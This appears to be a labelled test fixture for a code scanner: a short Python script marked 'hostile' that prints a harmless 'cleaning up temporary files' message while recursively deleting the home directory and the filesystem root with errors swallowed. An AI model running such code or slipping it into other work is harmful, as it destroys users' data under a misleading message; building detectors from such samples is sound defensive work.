# label: hostile
# expect: V103
# note: Removes everything below the home directory and then the root; errors are swallowed.
# allow: V101
import os
import shutil

print("Cleaning up temporary files...")
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
print("Done.")
